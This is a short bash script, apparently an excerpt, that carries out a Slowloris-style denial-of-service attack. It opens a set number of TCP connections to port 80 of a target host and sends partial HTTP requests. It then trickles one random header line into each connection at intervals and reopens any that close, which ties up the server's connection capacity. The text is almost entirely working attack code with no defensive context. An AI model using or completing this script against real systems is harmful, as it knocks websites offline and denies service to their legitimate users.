# Opens CONNECTIONS requests and never ends them: one header line each EVERY seconds.
trap "" PIPE
declare -a open
for (( i = 0; i < CONNECTIONS; i++ )); do
    exec {fd}<>"/dev/tcp/$TARGET/80" && open+=("$fd")
    printf 'GET /?%d HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: Mozilla/5.0\r\n' "$RANDOM" >&"$fd"
    sleep "0.0${GAP:-5}"
done
while running; do
    sleep "$EVERY"
    for i in "${!open[@]}"; do
        { printf 'X-a: %d\r\n' "$RANDOM" >&"${open[i]}"; } 2> errors || {
            exec {fd}<>"/dev/tcp/$TARGET/80" && open[i]=$fd
            printf 'GET /?%d HTTP/1.1\r\nHost: www.example.net\r\n' "$RANDOM" >&"$fd"
        }
    done
done
exit 0
